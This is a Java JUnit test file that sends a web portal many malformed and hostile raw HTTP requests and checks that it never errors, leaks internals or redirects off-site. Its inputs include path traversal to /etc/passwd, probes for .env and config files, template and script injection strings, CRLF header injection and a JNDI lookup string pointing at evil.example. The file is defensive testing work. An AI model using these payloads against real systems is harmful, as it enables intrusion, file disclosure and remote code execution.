package org.investportal.serving;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.stream.Stream;
import org.investportal.fixture.Browser;
import org.investportal.fixture.RawRequest;
import org.investportal.fixture.RunningPortal;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.springframework.beans.factory.annotation.Autowired;

@RunningPortal
class HostileInputTest {

    private static final String LONG = "a".repeat(7_000);

    /** A method, a coding or a version of HTTP that the server does not have is another matter: 501 and 505. */
    private static final List<Integer> FAILURES = List.of(500, 502, 503, 504);

    @Autowired
    private Browser browser;

    static Stream<String> targets() {
        List<String> hostile = List.of(
                "/%00",
                "/about%00",
                "/a\u0000b",
                "/%",
                "/%zz",
                "/%c0%af",
                "/%e4%b8",
                "/\u00e4\u00b8",
                "/%ff%fe",
                "/..",
                "/../etc/passwd",
                "/%2e%2e/%2e%2e/etc/passwd",
                "/..%2f..%2fetc",
                "/..%5c..%5c",
                "/css/../../application.properties",
                "/css/..%2f..%2fapplication.properties",
                "/;",
                "/about;a=b",
                "/;/about",
                "//",
                "//evil.example",
                "///about",
                "/\\evil.example",
                "/|",
                "/<script>",
                "/\"'",
                "/{}",
                "/[[figure:1]]",
                "/${7*7}",
                "/__${7*7}__::x",
                "/#{x}",
                "/~{x}",
                "/" + LONG,
                "/" + "a/".repeat(3_000),
                "/zh/" + LONG,
                "/figures/" + LONG,
                "/companies/" + LONG,
                "/zh",
                "/zh/zh",
                "/zh/%00",
                "/zh/..",
                "/zh//",
                "/zh;x",
                "/editions/0/about",
                "/editions/999999999/about",
                "/editions/99999999999999/about",
                "/editions/-1/about",
                "/editions/1",
                "/editions/x",
                "/editions/1/%00",
                "/editions/1/editions/1/about",
                "/editions/1//",
                "/editions/1/..",
                "/zh/editions/1/zh/about",
                "/sitemaps/0.xml",
                "/sitemaps/999999.xml",
                "/sitemaps/x.xml",
                "/error",
                "/zh/error",
                "/actuator",
                "/h2-console",
                "/login",
                "/logout",
                "/css/",
                "/css/nothing.css",
                "/css/site-00000000000000000000000000000000.css",
                "/img",
                "/WEB-INF/web.xml",
                "/META-INF/MANIFEST.MF",
                "/.env",
                "/application.properties",
                "/favicon.ico/x",
                "/robots.txt/",
                "/companies/",
                "/COMPANIES",
                "/companies/%20",
                "/companies/hikvision%0d%0aX:y",
                "/companies?page=0",
                "/companies?page=-1",
                "/companies?page=99999999999999999999",
                "/companies?page=x",
                "/companies?page=",
                "/companies?page=1&page=2",
                "/companies?page=2147483647",
                "/companies?page=%00",
                "/companies?%",
                "/companies?=",
                "/companies?&&&",
                "/companies?page[]=1",
                "/companies?" + LONG,
                "/companies?a=%zz",
                "/companies?page=%e4%b8%ad",
                "/figures?page=1e9",
                "/figures?page=0x1",
                "/sectors/biomedicine?page=2&q=<script>",
                "/about?_method=DELETE",
                "/?lang=zh",
                "/?q=%F0%9F%92%A9",
                "http://evil.example/",
                "*",
                "about");
        return hostile.stream()
                .flatMap(target -> Stream.of(
                        "GET " + target
                                + " HTTP/1.1\r\nHost: localhost\r\nAccept: text/html\r\nConnection: close\r\n\r\n",
                        "GET " + target + " HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n"));
    }

    static Stream<String> heads() {
        Stream<String> headers = Stream.of(
                "Accept: /",
                "Accept: foo",
                "Accept: text/html;q=x",
                "Accept: \u0001",
                "Accept: " + LONG,
                "Accept: application/xml",
                "Accept: image/png",
                "Accept:",
                "Accept: */*, */*;;;",
                "Accept-Language: x-y-z-" + LONG,
                "Accept-Language: ;;;",
                "Accept-Language: *",
                "Accept-Language: \u00ff",
                "Accept-Encoding: br;q=9, x",
                "Accept-Encoding: ,,,",
                "Accept-Charset: nope",
                "Cookie: =",
                "Cookie: a=b; ;;; =; JSESSIONID=../..",
                "Cookie: \u0000",
                "Cookie: " + LONG,
                "Cookie: $Version=1; x=\"",
                "Range: bytes=0-",
                "Range: bytes=9-1",
                "Range: bytes=x",
                "Range: bytes=" + "0-1,".repeat(500),
                "If-None-Match: \"",
                "If-None-Match: W/",
                "If-Modified-Since: yesterday",
                "If-Modified-Since: -1",
                "If-Match: x",
                "If-Range: \"",
                "Content-Type: x",
                "Content-Length: x",
                "Content-Length: -1",
                "Content-Length: 99999999999999999999",
                "Transfer-Encoding: chunked",
                "Transfer-Encoding: x",
                "Content-Type: multipart/form-data",
                "Expect: 100-continue",
                "Expect: x",
                "Upgrade: websocket\r\nConnection: Upgrade",
                "X-Forwarded-For: \u0000",
                "X-Forwarded-Host: evil.example",
                "X-Forwarded-Proto: x",
                "Forwarded: host=\"",
                "X-HTTP-Method-Override: DELETE",
                "Origin: null",
                "Origin: \u00ff",
                "Referer: " + LONG,
                "User-Agent: ${jndi:ldap://evil.example/a}",
                "User-Agent: " + "u".repeat(60_000),
                "x".repeat(9_000) + ": y",
                ": y",
                "no colon",
                " folded",
                "Authorization: Basic \u00ff",
                "Host: two.example",
                "Max-Forwards: x");
        Stream<String> hosts = Stream.of(
                "",
                "Host:",
                "Host: a b",
                "Host: localhost:99999",
                "Host: [::1",
                "Host: \u00ff",
                "Host: " + LONG,
                "Host: evil.example");
        return Stream.concat(
                headers.map(header ->
                        "GET /companies HTTP/1.1\r\nHost: localhost\r\n" + header + "\r\nConnection: close\r\n\r\n"),
                hosts.map(host -> "GET /zh/companies HTTP/1.1\r\n" + (host.isEmpty() ? "" : host + "\r\n")
                        + "Connection: close\r\n\r\n"));
    }

    static Stream<String> methods() {
        return Stream.of(
                        "POST",
                        "PUT",
                        "DELETE",
                        "PATCH",
                        "OPTIONS",
                        "TRACE",
                        "HEAD",
                        "CONNECT",
                        "PROPFIND",
                        "get",
                        "X".repeat(200),
                        "G\u0000T",
                        "\u00ff",
                        "PRI")
                .flatMap(method -> Stream.of(
                                "/",
                                "/companies",
                                "/companies/hikvision",
                                "/css/site.css",
                                "/nothing",
                                "/error",
                                "/robots.txt")
                        .map(path ->
                                method + " " + path + " HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n"));
    }

    static Stream<String> lines() {
        return Stream.of(
                "GET\r\n\r\n",
                "GET / HTTP/0.9\r\n\r\n",
                "GET / HTTP/9.9\r\nHost: x\r\n\r\n",
                "GET / HTTP/1.1 x\r\nHost: x\r\n\r\n",
                "GET  /  HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n");
    }

    @ParameterizedTest
    @MethodSource({"targets", "heads", "methods", "lines"})
    void neverFails(String request) {
        RawRequest.Answer answer = RawRequest.send(browser.port(), request);

        assertThat(answer.status()).as(answer.text()).isBetween(100, 505).isNotIn(FAILURES);
        assertThat(answer.text())
                .doesNotContain("Exception", "\tat ", "org.springframework", "org.apache", "Whitelabel", "Tomcat")
                .doesNotContainPattern("(?i)\r\nlocation: (//|https?://evil)")
                .doesNotContainPattern("(?i)\r\n(set-cookie|server|x-powered-by):");
    }

    @Test
    void refusesWhatTheServerCannotReadInTheLanguageOfTheAddress() {
        String chinese = RawRequest.send(
                        browser.port(),
                        "GET /zh/%zz HTTP/1.1\r\nHost: localhost\r\nAccept: text/html\r\nConnection: close\r\n\r\n")
                .text();
        RawRequest.Answer machine =
                RawRequest.send(browser.port(), "GET /%zz HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n");

        assertThat(chinese)
                .startsWith("HTTP/1.1 400")
                .contains("lang=\"zh-Hans\"", "Content-Security-Policy: default-src 'none'");
        assertThat(machine.status()).isEqualTo(400);
        assertThat(machine.text()).contains("application/problem+json", "\"status\":400");
    }

    @Test
    void takesNoOtherMethodAndReadsNoBody() {
        Browser.Answer posted = browser.send("POST", "/zh/companies", "Accept", "text/html");

        assertThat(posted.status()).isEqualTo(405);
        assertThat(posted.header("Allow")).contains("GET");
        assertThat(posted.document().selectFirst("html").attr("lang")).isEqualTo("zh-Hans");
        String slow =
                "POST /companies HTTP/1.1\r\nHost: localhost\r\nContent-Type: multipart/form-data; boundary=x\r\nContent-Length: 1000000\r\n\r\nx";
        assertThat(RawRequest.send(browser.port(), slow).status()).isEqualTo(405);
    }
}
